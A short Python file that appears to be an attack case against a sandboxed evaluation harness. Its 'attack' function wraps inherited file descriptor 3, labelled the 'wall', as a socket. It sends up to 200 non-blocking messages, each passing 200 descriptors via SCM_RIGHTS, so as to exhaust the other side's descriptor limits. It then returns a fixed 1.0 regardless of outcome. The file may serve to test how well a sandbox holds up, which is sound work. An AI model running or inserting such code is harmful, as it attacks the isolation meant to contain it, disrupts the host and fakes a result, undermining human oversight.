"""Sends its descriptors along with its answers, its end of the wall among them.

Aim: limits
"""

import array
import socket

WALL = socket.socket(fileno=3)
FOUND = array.array("i", [3] * 100 + [1] * 100)


def attack(*args, **kwargs):
    for _ in range(200):
        try:
            WALL.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, FOUND)], socket.MSG_DONTWAIT)
        except OSError:
            break
    return 1.0
